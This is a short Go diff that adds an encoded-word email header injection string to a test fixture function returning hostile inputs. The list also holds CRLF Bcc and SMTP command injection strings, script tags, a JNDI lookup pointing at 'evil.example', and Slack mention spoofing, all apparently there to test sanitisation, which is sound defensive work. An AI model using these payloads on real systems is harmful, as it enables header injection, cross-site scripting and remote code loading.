@@ -14,6 +14,7 @@ func HostileTexts() []string {
 	return []string{
 		"x\r\nBcc: victim@example.net\r\n\r\n<html>",
 		"\n.\r\nMAIL FROM:<evil@example.net>",
+		"=?utf-8?q?=0D=0ABcc:_victim=40example.net?= =?utf-8?b?PHNjcmlwdD4=?=",
 		"<script>alert(1)</script><img src=http://evil.example/x.png>",
 		"</pre></td><!-- ]]> {{.Secret}} ${jndi:ldap://evil.example/a}",
 		"<!channel> <!here> <@U012AB3CD> <!subteam^S1> <http://evil.example|www.example.com>",
